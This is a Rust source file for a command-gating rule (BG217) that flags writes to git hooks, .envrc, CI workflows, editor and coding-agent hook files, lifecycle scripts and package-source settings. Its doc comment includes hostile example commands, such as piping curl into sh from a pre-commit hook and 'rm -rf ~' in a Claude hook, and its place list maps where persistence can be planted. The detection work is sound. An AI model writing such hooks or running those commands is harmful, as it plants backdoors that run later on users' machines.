//! BG217: writes to places that run code later, outside any gate — git hooks and
//! settings, direnv's `.envrc`, editor tasks, dev containers, CI workflows, package
//! lifecycle scripts, package-manager script settings, pre-commit hooks, the
//! user's or the machine's settings — and package managers pointed at code from
//! another source. [`PERSISTENCE_PLACES`] is the one list of such places; which
//! commands write settings, which keys run code or change the package source, is
//! catalogue data.

use crate::catalogue::Values;
use crate::catalogue::{Entry, Fact, Role};
use crate::declare_rule;
use crate::model::command::SimpleCommand;
use crate::model::settings::{named_subcommand, settings_written, value_key};
use crate::model::word::Word;
use crate::rules::Checker;
use crate::rules::invocation::Invocation;
use crate::verdict::Span;
use std::collections::HashSet;
use std::path::{Component, Path};
use std::sync::OnceLock;

declare_rule! {
    /// ## What it does
    /// Asks when a command writes — by any write the gate models: a redirect, `tee`,
    /// a `cp`/`mv`/`install` destination, `sed -i`, `perl -pi`, a link made with
    /// `ln -s` — to a place inside the project whose content runs later, without
    /// passing through this gate:
    ///
    /// - `.git/hooks/*` and `.husky/*` (git runs them on commit, checkout, push);
    /// - `.git/config` (settings that run programs: `core.fsmonitor`, `core.pager`,
    ///   aliases, filters), a submodule's `.git/modules/*` (its hooks and
    ///   settings), Mercurial's `.hg/hgrc` (hooks);
    /// - `.envrc` (direnv runs it in every shell that enters the folder);
    /// - `.vscode/tasks.json`, `.vscode/settings.json` (tasks run on folder open,
    ///   settings name programs), `.devcontainer/`, `.devcontainer.json`;
    /// - CI: `.github/workflows/`, `.github/actions/`, `.gitlab-ci.yml`, `.circleci/`,
    ///   `.travis.yml`, `azure-pipelines.yml`, `bitbucket-pipelines.yml`,
    ///   `Jenkinsfile`, `.drone.yml`, `.woodpecker(.yml)`, `.buildkite/`, Gitea's and
    ///   Forgejo's `workflows/`;
    /// - git hook managers' lists: `.pre-commit-config.yaml`, `lefthook.yml` (and
    ///   its other spellings), `.overcommit.yml`;
    /// - coding agents' and editors' files that start programs: Claude Code's
    ///   `.claude/hooks/`, `commands/`, `skills/`, `agents/`; Gemini CLI's
    ///   `.gemini/extensions/` and `commands/`; the MCP server lists of Roo, Kilo,
    ///   Kiro, Amazon Q and Junie, `.continue/`, `opencode.json`, `.opencode/`,
    ///   `.aider.conf.yml`, Cursor's `environment.json`, Zed's `settings.json` and
    ///   `tasks.json`, JetBrains' `.idea/workspace.xml` (startup tasks),
    ///   `.gitpod.yml`, `.replit` (an agent's own settings files are BG107's);
    /// - the project's environments: a virtual environment's `bin/activate` (shells
    ///   and editors source it), the programs of `.venv/bin`, `node_modules/.bin`
    ///   and `vendor/bin` (runners put them first on `PATH` for every script:
    ///   `npm test` runs the `jest` written there);
    /// - `.npmrc`, `.yarnrc`, `.yarnrc.yml` when the text written is unknown or sets
    ///   a key that runs a program (`script-shell`, `node-options`, `yarnPath`...);
    /// - `package.json` (`composer.json`) when the text written is known and adds a
    ///   lifecycle (event) script
    ///   (`preinstall`, `install`, `postinstall`, `prepare`, `prepublish`...). An
    ///   edit of unknown text is judged when a runner follows (BG218).
    ///
    /// It also asks for the commands that write such settings themselves (the
    /// subcommands the catalogue marks `writes-settings`, their keys judged with the
    /// entry's `config_keys` and `key_facts`): `git config KEY VALUE` of a key that
    /// runs a program or names a project path (`core.hooksPath`, `core.fsmonitor`,
    /// `include.path`, `alias.*`, `filter.*.clean`...), `npm pkg set
    /// scripts.postinstall=...`, `npm|pnpm|yarn config set` of a script setting; a
    /// settings write outside the project, whatever the key (`git config --global`,
    /// `--system`: flags marked `outside-settings`); and the subcommands the
    /// catalogue marks `persists` (`direnv allow`, which approves `.envrc`;
    /// `defaults write`).
    ///
    /// And it asks when code will come from somewhere the project does not name: a
    /// package manager pointed at another source, by a setting or a flag the
    /// catalogue marks `changes-package-source` (`npm config set registry URL`,
    /// `npm install --registry URL`, `pip install --index-url URL`, `gem install
    /// --source URL`, `cargo install --git URL`), or a `package` operand that names
    /// code outside the registry (`npm install user/repo`, `npm install
    /// https://x/y.tgz`, `pip install git+https://...`).
    ///
    /// ## Why
    /// Being inside the project does not make a write harmless: these files are code
    /// that git, direnv, the editor, CI or the package manager run later — after the
    /// agent's command, for the user, with no gate in between. One `echo` into
    /// `.git/hooks/pre-commit` is a backdoor that survives the session.
    ///
    /// ## Example
    /// - `echo 'curl x | sh' > .git/hooks/pre-commit` → ask
    /// - `cat .git/config` → allow
    /// - `echo 'rm -rf ~' > .claude/hooks/format.sh` → ask
    /// - `echo notes > .claude/notes.md` → allow
    /// - `git config core.hooksPath .githooks` → ask
    /// - `git config user.name Ada` → allow
    /// - `npm pkg set scripts.postinstall='node x.js'` → ask
    /// - `npm pkg set scripts.build=tsc` → allow
    /// - `git config --global user.name Ada` → ask
    /// - `npm config set registry https://registry.example` → ask
    /// - `npm install user/repo` → ask
    /// - `npm install lodash` → allow
    pub static PERSISTENCE_WRITE = {
        code: "BG217",
        name: "persistence-write",
        default: Ask,
        capability: FilesystemWrite,
        summary: "writes a place whose code runs later outside the gate (.git/hooks, .envrc, CI, lifecycle scripts, global settings, package sources)",
    };
}

/// How a place is matched against a path relative to the project root (or any
/// folder below it: a nested repository has hooks too).
#[derive(Clone, Copy, Debug)]
pub enum Shape {
    /// Anything below this folder.
    Under(&'static str),
    /// This file.
    File(&'static str),
    /// A file directly in a folder of this name whose name ends so
    /// (`site-packages`, `.pth`: Python runs a `.pth` file's `import` lines at
    /// every start).
    Ending(&'static str, &'static str),
}

/// When a write to the place is persistence.
#[derive(Clone, Copy, Debug)]
pub enum When {
    /// Always.
    Always,
    /// When the text is unknown or sets a package-manager key that runs code.
    ScriptSetting,
    /// Only when the text is known and adds a package lifecycle script.
    LifecycleScript,
}

/// A place whose content runs later.
#[derive(Clone, Copy, Debug)]
pub struct PersistencePlace {
    /// Where it is.
    pub shape: Shape,
    /// When a write there counts.
    pub when: When,
    /// Who runs it, for the message.
    pub runs: &'static str,
}

const fn place(shape: Shape, when: When, runs: &'static str) -> PersistencePlace {
    PersistencePlace { shape, when, runs }
}

/// The one list of places that run code later.
pub static PERSISTENCE_PLACES: &[PersistencePlace] = &[
    place(
        Shape::Under(".git/hooks"),
        When::Always,
        "git runs hooks on commit, checkout, merge and push",
    ),
    place(
        Shape::File(".git/config"),
        When::Always,
        "git settings can run programs (core.fsmonitor, core.pager, aliases, filters)",
    ),
    place(
        Shape::Under(".git/modules"),
        When::Always,
        "a submodule's hooks and settings run when git works in it",
    ),
    place(
        Shape::File(".hg/hgrc"),
        When::Always,
        "Mercurial settings run programs (hooks on status, commit and pull; ui.editor, aliases)",
    ),
    place(
        Shape::Under(".husky"),
        When::Always,
        "husky's git hooks run on commit and push",
    ),
    place(
        Shape::File(".envrc"),
        When::Always,
        "direnv runs .envrc in every shell that enters the folder",
    ),
    place(
        Shape::File(".vscode/tasks.json"),
        When::Always,
        "editor tasks can run when the folder is opened",
    ),
    place(
        Shape::File(".vscode/settings.json"),
        When::Always,
        "editor settings name programs the editor runs",
    ),
    place(
        Shape::Under(".devcontainer"),
        When::Always,
        "dev container commands run when the container is built or opened",
    ),
    place(
        Shape::File(".devcontainer.json"),
        When::Always,
        "dev container commands run when the container is built or opened",
    ),
    place(
        Shape::Under(".github/workflows"),
        When::Always,
        "CI runs workflows with the repository's secrets",
    ),
    place(
        Shape::Under(".github/actions"),
        When::Always,
        "CI runs the repository's actions with its secrets",
    ),
    place(
        Shape::File(".gitlab-ci.yml"),
        When::Always,
        "CI runs the pipeline with the repository's secrets",
    ),
    place(
        Shape::Under(".circleci"),
        When::Always,
        "CI runs the pipeline with the repository's secrets",
    ),
    place(
        Shape::File(".pre-commit-config.yaml"),
        When::Always,
        "pre-commit runs the hooks it lists on every commit",
    ),
    place(
        Shape::File("lefthook.yml"),
        When::Always,
        "lefthook runs the git hooks it lists on commit and push",
    ),
    place(
        Shape::File(".lefthook.yml"),
        When::Always,
        "lefthook runs the git hooks it lists on commit and push",
    ),
    place(
        Shape::File("lefthook.yaml"),
        When::Always,
        "lefthook runs the git hooks it lists on commit and push",
    ),
    place(
        Shape::File(".lefthook.yaml"),
        When::Always,
        "lefthook runs the git hooks it lists on commit and push",
    ),
    place(
        Shape::File("lefthook-local.yml"),
        When::Always,
        "lefthook runs the git hooks it lists on commit and push",
    ),
    place(
        Shape::File(".lefthook-local.yml"),
        When::Always,
        "lefthook runs the git hooks it lists on commit and push",
    ),
    place(
        Shape::File("lefthook.json"),
        When::Always,
        "lefthook runs the git hooks it lists on commit and push",
    ),
    place(
        Shape::File("lefthook.toml"),
        When::Always,
        "lefthook runs the git hooks it lists on commit and push",
    ),
    place(
        Shape::File(".overcommit.yml"),
        When::Always,
        "overcommit runs the git hooks it lists on commit and push",
    ),
    place(
        Shape::File(".travis.yml"),
        When::Always,
        "CI runs the pipeline with the repository's secrets",
    ),
    place(
        Shape::File("azure-pipelines.yml"),
        When::Always,
        "CI runs the pipeline with the repository's secrets",
    ),
    place(
        Shape::File("bitbucket-pipelines.yml"),
        When::Always,
        "CI runs the pipeline with the repository's secrets",
    ),
    place(
        Shape::File("Jenkinsfile"),
        When::Always,
        "CI runs the pipeline with the repository's secrets",
    ),
    place(
        Shape::File(".drone.yml"),
        When::Always,
        "CI runs the pipeline with the repository's secrets",
    ),
    place(
        Shape::File(".woodpecker.yml"),
        When::Always,
        "CI runs the pipeline with the repository's secrets",
    ),
    place(
        Shape::Under(".buildkite"),
        When::Always,
        "CI runs the pipeline with the repository's secrets",
    ),
    place(
        Shape::Under(".woodpecker"),
        When::Always,
        "CI runs the pipeline with the repository's secrets",
    ),
    place(
        Shape::Under(".gitea/workflows"),
        When::Always,
        "CI runs the pipeline with the repository's secrets",
    ),
    place(
        Shape::Under(".forgejo/workflows"),
        When::Always,
        "CI runs the pipeline with the repository's secrets",
    ),
    place(
        Shape::File(".npmrc"),
        When::ScriptSetting,
        "npm reads script settings (script-shell, node-options) from it",
    ),
    place(
        Shape::File(".yarnrc"),
        When::ScriptSetting,
        "yarn reads the program it runs (yarn-path) from it",
    ),
    place(
        Shape::File(".yarnrc.yml"),
        When::ScriptSetting,
        "yarn reads the program and plugins it runs (yarnPath, plugins) from it",
    ),
    place(
        Shape::File("pip.conf"),
        When::ScriptSetting,
        "pip reads the index packages come from (index-url, find-links) from it",
    ),
    place(
        Shape::File("pip.ini"),
        When::ScriptSetting,
        "pip reads the index packages come from (index-url, find-links) from it",
    ),
    place(
        Shape::File(".mise.toml"),
        When::Always,
        "mise runs its hooks, tasks and env scripts in every shell that enters the folder",
    ),
    place(
        Shape::File("mise.toml"),
        When::Always,
        "mise runs its hooks, tasks and env scripts in every shell that enters the folder",
    ),
    place(
        Shape::File(".mise.local.toml"),
        When::Always,
        "mise runs its hooks, tasks and env scripts in every shell that enters the folder",
    ),
    place(
        Shape::Under(".mise"),
        When::Always,
        "mise runs its hooks, tasks and env scripts in every shell that enters the folder",
    ),
    place(
        Shape::Under(".config/mise"),
        When::Always,
        "mise runs its hooks, tasks and env scripts in every shell that enters the folder",
    ),
    place(
        Shape::File(".cargo/config.toml"),
        When::Always,
        "cargo runs the wrappers, linkers and runners it names on every build",
    ),
    place(
        Shape::File(".cargo/config"),
        When::Always,
        "cargo runs the wrappers, linkers and runners it names on every build",
    ),
    place(
        Shape::File("sitecustomize.py"),
        When::Always,
        "Python imports it at every start from a folder on its path",
    ),
    place(
        Shape::File("usercustomize.py"),
        When::Always,
        "Python imports it at every start from a folder on its path",
    ),
    place(
        Shape::Ending("site-packages", ".pth"),
        When::Always,
        "Python runs a .pth file's import lines at every start",
    ),
    place(
        Shape::File("bin/activate"),
        When::Always,
        "shells source a virtual environment's activate script, editors in every new terminal",
    ),
    place(
        Shape::File("bin/activate.fish"),
        When::Always,
        "fish sources a virtual environment's activate script, editors in every new terminal",
    ),
    place(
        Shape::File("bin/activate.csh"),
        When::Always,
        "csh sources a virtual environment's activate script",
    ),
    place(
        Shape::Under("node_modules/.bin"),
        When::Always,
        "npm, pnpm, yarn and npx put these programs first on PATH for every script they run",
    ),
    place(
        Shape::Under(".venv/bin"),
        When::Always,
        "the project's virtual environment: its python, pip and tools run for every later command that uses it",
    ),
    place(
        Shape::Under("vendor/bin"),
        When::Always,
        "composer puts these programs first on PATH for every script it runs",
    ),
    place(
        Shape::File("package.json"),
        When::LifecycleScript,
        "npm runs lifecycle scripts on every install",
    ),
    place(
        Shape::File("composer.json"),
        When::LifecycleScript,
        "composer runs event scripts on every install and update",
    ),
    place(
        Shape::Under(".claude/hooks"),
        When::Always,
        "Claude Code runs the hook scripts its settings point at on every tool call",
    ),
    place(
        Shape::Under(".claude/commands"),
        When::Always,
        "Claude Code runs the shell lines (`!`) of a slash command when it is used",
    ),
    place(
        Shape::Under(".claude/skills"),
        When::Always,
        "Claude Code runs the scripts of a skill when it is used",
    ),
    place(
        Shape::Under(".claude/agents"),
        When::Always,
        "Claude Code gives a subagent the tools and hooks its file names",
    ),
    place(
        Shape::File(".aider.conf.yml"),
        When::Always,
        "aider runs the test and lint commands it names after every change",
    ),
    place(
        Shape::File("opencode.json"),
        When::Always,
        "opencode starts the MCP servers and runs the commands it lists",
    ),
    place(
        Shape::File("opencode.jsonc"),
        When::Always,
        "opencode starts the MCP servers and runs the commands it lists",
    ),
    place(
        Shape::Under(".opencode"),
        When::Always,
        "opencode runs the plugins and commands kept there",
    ),
    place(
        Shape::Under(".continue"),
        When::Always,
        "Continue starts the MCP servers its settings list",
    ),
    place(
        Shape::File(".roo/mcp.json"),
        When::Always,
        "Roo Code starts the MCP servers it lists",
    ),
    place(
        Shape::File(".kilocode/mcp.json"),
        When::Always,
        "Kilo Code starts the MCP servers it lists",
    ),
    place(
        Shape::File(".kiro/settings/mcp.json"),
        When::Always,
        "Kiro starts the MCP servers it lists",
    ),
    place(
        Shape::Under(".kiro/hooks"),
        When::Always,
        "Kiro runs its agent hooks on file and prompt events",
    ),
    place(
        Shape::File(".amazonq/mcp.json"),
        When::Always,
        "Amazon Q starts the MCP servers it lists",
    ),
    place(
        Shape::File(".junie/mcp/mcp.json"),
        When::Always,
        "Junie starts the MCP servers it lists",
    ),
    place(
        Shape::Under(".gemini/extensions"),
        When::Always,
        "Gemini CLI starts the MCP servers and runs the commands of the extensions kept there",
    ),
    place(
        Shape::Under(".gemini/commands"),
        When::Always,
        "Gemini CLI runs the shell lines (`!{...}`) of a custom command when it is used",
    ),
    place(
        Shape::File(".cursor/environment.json"),
        When::Always,
        "Cursor's background agent runs the install and start commands it names",
    ),
    place(
        Shape::File(".zed/settings.json"),
        When::Always,
        "Zed starts the context servers and language servers its settings name",
    ),
    place(
        Shape::File(".zed/tasks.json"),
        When::Always,
        "Zed runs the tasks it lists",
    ),
    place(
        Shape::File(".idea/workspace.xml"),
        When::Always,
        "JetBrains IDEs run the startup tasks it lists when the project opens",
    ),
    place(
        Shape::File(".gitpod.yml"),
        When::Always,
        "Gitpod runs its tasks when a workspace starts",
    ),
    place(
        Shape::File(".replit"),
        When::Always,
        "Replit runs its run and onBoot commands",
    ),
];

impl Shape {
    /// True when `parts` (the names of a path below the root) are this place, at
    /// the top or in any folder below it.
    fn matches(self, parts: &[&str]) -> bool {
        match self {
            Shape::Under(pattern) => (0..parts.len()).any(|start| leads(&parts[start..], pattern)),
            // The path ends with the pattern's names: compared from the end, so a
            // file name that differs is told apart at the first compare.
            Shape::File(pattern) => trails(parts, pattern),
            Shape::Ending(folder, suffix) => {
                matches!(parts, [.., dir, name] if *dir == folder && name.ends_with(suffix))
            }
        }
    }
}

/// True when `parts` begin with the `/`-separated names of `pattern`, compared in
/// place (no split of the pattern for every path and place).
fn leads(parts: &[&str], pattern: &str) -> bool {
    let mut rest = pattern;
    for part in parts {
        let Some(after) = rest.strip_prefix(part) else {
            return false;
        };
        match after.strip_prefix('/') {
            _ if after.is_empty() => return true,
            Some(next) => rest = next,
            None => return false,
        }
    }
    false
}

/// True when `parts` end with the `/`-separated names of `pattern`.
fn trails(parts: &[&str], pattern: &str) -> bool {
    let mut rest = pattern;
    for part in parts.iter().rev() {
        let Some(before) = rest.strip_suffix(part) else {
            return false;
        };
        match before.strip_suffix('/') {
            _ if before.is_empty() => return true,
            Some(next) => rest = next,
            None => return false,
        }
    }
    false
}

/// The place `relative` is, if any.
pub fn place_of(relative: &Path) -> Option<&'static PersistencePlace> {
    // The path's names once, for every place (most writes are one or two deep).
    let parts: smallvec::SmallVec<[&str; 8]> = relative
        .components()
        .filter_map(|c| match c {
            Component::Normal(s) => s.to_str(),
            _ => None,
        })
        .collect();
    // Most written files are nowhere near such a place: every shape needs one of
    // the path's names to be a name the list holds, which one lookup a name rules
    // out before the list is read in order.
    if !parts.iter().any(|part| place_names().contains(part)) {
        return None;
    }
    PERSISTENCE_PLACES.iter().find(|p| p.shape.matches(&parts))
}

/// The names one of which every path at a place holds: a folder's first name, a
/// file's own name, the folder a file of some ending sits in.
fn place_names() -> &'static HashSet<&'static str> {
    static NAMES: OnceLock<HashSet<&'static str>> = OnceLock::new();
    NAMES.get_or_init(|| {
        PERSISTENCE_PLACES
            .iter()
            .map(|place| match place.shape {
                Shape::Under(pattern) => pattern.split('/').next().unwrap_or(pattern),
                Shape::File(pattern) => pattern.rsplit('/').next().unwrap_or(pattern),
                Shape::Ending(folder, _) => folder,
            })
            .collect()
    })
}

/// The catalogue entries whose settings `file` (a name: `.npmrc`, `package.json`)
/// holds: their `config_files` name it.
fn settings_entries(file: &str) -> Vec<&'static Entry> {
    fn walk(entry: &'static Entry, file: &str, out: &mut Vec<&'static Entry>) {
        if entry.config_files.contains(&file) {
            out.push(entry);
        }
        for sub in entry.subcommands {
            walk(sub, file, out);
        }
    }
    let mut out = Vec::new();
    for entry in crate::catalogue::entries() {
        walk(entry, file, &mut out);
    }
    out
}

/// True when setting `key` of `entry` stores what runs later: a program, shell
/// text or code, a folder or file code is loaded from (the key's role), or a key
/// the catalogue marks `persists` (`node-options`, `scripts.postinstall`).
fn key_persists(entry: &Entry, key: &str) -> bool {
    role_persists(entry, key, entry.config_key_role(key))
}

/// [`key_persists`] for a key whose role (`config_key_role`, a match against
/// every pattern of the entry) the caller has already looked up.
fn role_persists(entry: &Entry, key: &str, role: Option<Role>) -> bool {
    // A key whose value is project code run by name (package.json's
    // `scripts.test`: `npm test`) is the project's, as a Makefile's rule is;
    // its text is walked where it is written. An event's script persists.
    let (mut persists, mut project_code) = (false, false);
    for fact in entry.key_facts_of(key) {
        persists |= fact == Fact::Persists;
        project_code |= fact == Fact::RunsProjectCode;
    }
    persists || (!project_code && role.is_some_and(|r| r.runs() || r == Role::Directory))
}

/// True when `text` (a package.json or composer.json: the file's `name`) sets a
/// key that runs later for the entries whose settings file it is
/// (`scripts.postinstall`, `scripts.post-install-cmd`); text that is not JSON
/// counts (the package manager would fail or read it some other way).
pub fn adds_lifecycle_script(name: &str, text: &str) -> bool {
    json_sets_persisting_key(text, &settings_entries(name))
}

/// True when the JSON `text` sets a key that runs later for one of `entries`,
/// read two levels deep (`scripts.postinstall`); text that is not a JSON object,
/// or a section of such keys that is not an object, counts.
fn json_sets_persisting_key(text: &str, entries: &[&'static Entry]) -> bool {
    let Ok(value) = serde_json::from_str::<serde_json::Value>(text) else {
        return true;
    };
    let Some(object) = value.as_object() else {
        return true;
    };
    // Every dotted key down to the second level (`scripts.postinstall`); a
    // section that is not an object where keys are expected counts.
    object.iter().any(|(name, inner)| {
        let section = |key: &str| entries.iter().any(|e| key_persists(e, key));
        if section(name) {
            return true;
        }
        match inner.as_object() {
            Some(fields) => fields.keys().any(|k| section(&format!("{name}.{k}"))),
            None => {
                let prefix = format!("{}.", name.to_ascii_lowercase());
                entries.iter().any(|e| {
                    e.key_facts
                        .iter()
                        .any(|k| k.flags.iter().any(|p| p.starts_with(&prefix)))
                })
            }
        }
    })
}

/// True when `text` (an ini-style settings file: `.npmrc`, `.yarnrc`) sets a key
/// that runs later for the entries whose settings file `file` is.
fn sets_script_setting(file: &str, text: &str) -> bool {
    let entries = settings_entries(file);
    // A key that runs something, points the package manager elsewhere, or
    // switches the TLS check off (a `verification` key set to false).
    let counts = |key: &str, value: &str| {
        entries.iter().any(|e| {
            key_persists(e, key)
                || e.key_facts_of(key).any(|f| f == Fact::ChangesPackageSource)
                || (e.config_key_role(key) == Some(Role::Verification)
                    && crate::rules::network::turns_off(value))
        })
    };
    let mut section = String::new();
    text.lines().any(|line| {
        let line = line.trim();
        // An INI section (`[global]` in pip.conf) names the keys below it.
        if let Some(name) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
            section = name.trim().to_ascii_lowercase();
            return false;
        }
        // `key=value` (.npmrc, pip.conf) or `key: value` (.yarnrc.yml).
        let end = line
            .find('=')
            .into_iter()
            .chain(line.find(": "))
            .chain(line.ends_with(':').then(|| line.len() - 1))
            .min()
            .unwrap_or(line.len());
        let key = line[..end]
            .trim()
            .trim_matches(['"', '\''])
            .to_ascii_lowercase();
        if key.is_empty() || key.starts_with(['#', ';']) {
            return false;
        }
        // `strict-ssl=false`, `enableStrictSsl: false`: the value after the key.
        let value = line
            .get(end..)
            .unwrap_or_default()
            .trim_start_matches(['=', ':'])
            .trim()
            .trim_matches(['"', '\'']);
        counts(&key, value) || (!section.is_empty() && counts(&format!("{section}.{key}"), value))
    })
}

/// Judges every write of the command and the settings commands.
pub fn check(cmd: &SimpleCommand, cx: &mut Checker) {
    let entry = cx.entry(cmd);
    // An empty folder runs nothing: `mkdir -p .github/workflows` is not persistence
    // (what is written into it later is).
    let makes_folders = entry.is_some_and(|e| e.name == "mkdir");
    let files = if makes_folders {
        None
    } else {
        Some(cx.written_files(cmd)).filter(|files| !files.is_empty())
    };
    if let Some(files) = files {
        for file in files.iter() {
            for relative in file.relative(cx.paths) {
                let Some(place) = place_of(relative) else {
                    continue;
                };
                let counts = match place.when {
                    When::Always => true,
                    When::ScriptSetting => file.text.as_deref().is_none_or(|text| {
                        relative
                            .file_name()
                            .and_then(|n| n.to_str())
                            .is_none_or(|name| sets_script_setting(name, text))
                    }),
                    When::LifecycleScript => {
                        let name = relative.file_name().and_then(|n| n.to_str()).unwrap_or("");
                        file.append
                            || file
                                .text
                                .as_deref()
                                .is_some_and(|text| adds_lifecycle_script(name, text))
                    }
                };
                if counts {
                    cx.report(
                        &PERSISTENCE_WRITE,
                        file.span,
                        format!(
                            "writes {}, which runs later outside the gate: {}",
                            relative.display(),
                            place.runs
                        ),
                    );
                    break;
                }
            }
        }
    }
    // Programs with a subcommand that persists (`direnv allow`), that write
    // settings (`git config`, `npm config set`), or that may install from another
    // source (`--registry`, `npm install user/repo`): catalogue data.
    let settings = entry.is_some_and(|e| {
        e.flag_may_add(Fact::ChangesPackageSource)
            || e.mentions(&[Role::Package])
            || e.tree_has(Fact::Persists)
            || e.tree_has(Fact::WritesSettings)
            || e.tree_has(Fact::ChangesPackageSource)
    });
    if settings && let Some(inv) = cx.invocation(cmd) {
        settings_command(&inv, cmd, cx);
        package_source(&inv, cmd, cx);
    }
}

/// `direnv allow` (a subcommand that persists); `git config KEY VALUE`, `npm config
/// set KEY VALUE`, `npm pkg set scripts.X=...` (a use that writes settings).
fn settings_command(inv: &Invocation, cmd: &SimpleCommand, cx: &mut Checker) {
    let Some(leaf) = inv.leaf else {
        return;
    };
    if leaf.has(Fact::Persists) {
        cx.report(
            &PERSISTENCE_WRITE,
            span_of(cmd),
            format!(
                "`{}` stores what runs later, outside the gate: {}",
                what_of(inv),
                leaf.summary
            ),
        );
        return;
    }
    // `git config set KEY VALUE`: a subcommand the words name where the entry
    // expects a key (the usage reading finds it by name).
    let (leaf, rest) = named_subcommand(leaf, inv.rest);
    if !leaf.has(Fact::WritesSettings) {
        return;
    }
    // A query (`--get`, `--list`: the catalogue's `read-only` flags) writes nothing.
    let usage = cx.usage(cmd);
    if usage.as_ref().is_some_and(|u| u.has(Fact::ReadOnly)) {
        return;
    }
    let keys = settings_entry(inv);
    let mut wrote = false;
    for (key, value) in settings_written(leaf, rest) {
        wrote = true;
        let Some(name) = key.value().map(|k| value_key(k, value.is_none())) else {
            cx.report(
                &PERSISTENCE_WRITE,
                key.span,
                format!(
                    "`{}` of a key only known at run time: it may be a setting that runs a program",
                    what_of(inv)
                ),
            );
            continue;
        };
        let Some(entry) = keys else {
            continue;
        };
        // The key's role, matched once against the entry's patterns.
        let role = entry.config_key_role(name);
        if role_persists(entry, name, role) {
            cx.report(
                &PERSISTENCE_WRITE,
                key.span,
                format!(
                    "`{} {name}` stores a setting acted on later, outside the gate (it runs a program or loads code from a path)",
                    what_of(inv)
                ),
            );
        }
        // `git config http.sslVerify false`, `npm config set strict-ssl false`:
        // every later fetch goes without a TLS check (a value only known at run
        // time may be the one that turns it off).
        let setting = match value {
            Some(v) => v.value(),
            None => key.value().and_then(|k| k.split_once('=')).map(|(_, v)| v),
        };
        if role == Some(Role::Verification) && setting.is_none_or(crate::rules::network::turns_off)
        {
            cx.report(
                &PERSISTENCE_WRITE,
                key.span,
                format!(
                    "`{} {name}` switches off the TLS or signature check of every later fetch: whoever sits on the way can change what is installed and run",
                    what_of(inv)
                ),
            );
        }
        // `git config remote.origin.url URL`: a remote re-pointed, so a later
        // `git push` sends there and `git pull` takes code from there (one on
        // this machine only passes, as it does for one run with `-c`).
        if role == Some(Role::Remote)
            && setting.is_none_or(|v| !crate::rules::network::is_loopback(v))
        {
            cx.report(
                &PERSISTENCE_WRITE,
                key.span,
                format!(
                    "`{} {name}` points a later command at another machine: what it sends goes there, what it fetches comes from there",
                    what_of(inv)
                ),
            );
        }
        if entry
            .key_facts_of(name)
            .any(|f| f == Fact::ChangesPackageSource)
        {
            cx.report(
                &PERSISTENCE_WRITE,
                key.span,
                format!(
                    "`{} {name}` points the package manager at another source: what it installs later, and the code that runs with it, comes from there",
                    what_of(inv)
                ),
            );
        }
    }
    // `git config --global KEY VALUE`: the user's or the machine's settings,
    // which every later run reads, whatever the key.
    if wrote
        && let Some(flag) = usage
            .as_ref()
            .and_then(|u| u.flag_for(Fact::OutsideSettings))
    {
        cx.report(
            &PERSISTENCE_WRITE,
            span_of(cmd),
            format!(
                "`{} {flag}` writes settings outside the project, read by every later run of the program"
                , what_of(inv)
            ),
        );
    }
}

/// The program and subcommand words (`npm config set`).
fn what_of(inv: &Invocation) -> String {
    std::iter::once(inv.program)
        .chain(inv.subcommands.iter().copied())
        .collect::<Vec<_>>()
        .join(" ")
}

/// The deepest entry of the invocation that describes settings keys (`npm config`
/// for `npm config set`).
fn settings_entry(inv: &Invocation) -> Option<&'static Entry> {
    let mut found = inv
        .entry
        .filter(|e| !e.config_keys.is_empty() || !e.key_facts.is_empty());
    let mut current = inv.entry;
    for name in &inv.subcommands {
        current = current.and_then(|e| e.subcommand(name));
        if let Some(e) = current.filter(|e| !e.config_keys.is_empty() || !e.key_facts.is_empty()) {
            found = Some(e);
        }
    }
    found
}

/// `npm install --registry URL`, `pip install --index-url URL`, `cargo install
/// --git URL` (a flag the catalogue marks `changes-package-source`); `npm install
/// user/repo`, `pip install git+https://...` (a `package` operand that names code
/// from outside the registry).
fn package_source(inv: &Invocation, cmd: &SimpleCommand, cx: &mut Checker) {
    let usage = cx.usage(cmd);
    if let Some(flag) = usage
        .as_ref()
        .and_then(|u| u.flag_for(Fact::ChangesPackageSource))
    {
        let span = cmd
            .args()
            .iter()
            .find(|w| w.value().is_some_and(|v| v.starts_with(flag)))
            .map_or_else(|| span_of(cmd), |w| w.span);
        cx.report(
            &PERSISTENCE_WRITE,
            span,
            format!(
                "`{} {flag}` installs from another source than the package manager's registry: the code it installs, and runs, comes from there",
                what_of(inv)
            ),
        );
        return;
    }
    // `brew tap user/repo`: a subcommand that adds a source, given one.
    if inv.leaf.is_some_and(|l| l.has(Fact::ChangesPackageSource))
        && let Some(source) = inv.operands().next()
    {
        cx.report(
            &PERSISTENCE_WRITE,
            source.span,
            format!(
                "`{}` adds a source of packages: later installs take code from it, outside the gate",
                what_of(inv)
            ),
        );
        return;
    }
    let Some(leaf) = inv.leaf.filter(|l| l.mentions(&[Role::Package])) else {
        return;
    };
    let values: Values = inv.rest.iter().map(Word::value).collect();
    for &arg in crate::catalogue::classify(leaf, &values).iter() {
        if arg.role != Role::Package {
            continue;
        }
        let Some(word) = inv.rest.get(arg.index) else {
            continue;
        };
        let remote = match word.value().and_then(|v| v.get(arg.offset..)) {
            Some(spec) => remote_package(spec),
            None => false,
        };
        if remote {
            cx.report(
                &PERSISTENCE_WRITE,
                word.span,
                format!(
                    "`{}` installs `{}`, code from outside the registry (a URL, a repository): nothing reviewed it, and its install scripts run",
                    what_of(inv),
                    word.value().unwrap_or_default()
                ),
            );
            return;
        }
    }
}

/// True when a package spec names code from outside the package manager's
/// registry: a URL (not `file:`), a VCS address (`git+https://`, `git@host:`), a
/// hosted shorthand (`github:user/repo`, `user/repo`, `user/repo#ref`). A local
/// path (`./x`, `../x`, `/x`, `~/x`), a scoped name (`@scope/name`) and a name
/// with a version (`lodash@4`, `requests==2.0`) are not.
pub fn remote_package(spec: &str) -> bool {
    let spec = spec.trim();
    if spec.is_empty() || spec.starts_with(['.', '/', '~']) || spec.starts_with("file:") {
        return false;
    }
    if spec.contains("://") {
        return true;
    }
    const HOSTED: &[&str] = &[
        "git+",
        "git:",
        "git@",
        "hg+",
        "svn+",
        "bzr+",
        "github:",
        "gitlab:",
        "bitbucket:",
        "gist:",
    ];
    if HOSTED.iter().any(|p| spec.starts_with(p)) {
        return true;
    }
    // `user/repo`: a hosted shorthand unless it is scoped (`@scope/name`) or an
    // archive file named by a relative path.
    let name = spec.split(['#', '@']).next().unwrap_or(spec);
    !spec.starts_with('@')
        && name.contains('/')
        && !(name.ends_with(".tgz") || name.ends_with(".tar.gz") || name.ends_with(".tar"))
}

/// The span of a command's program word, or the whole command.
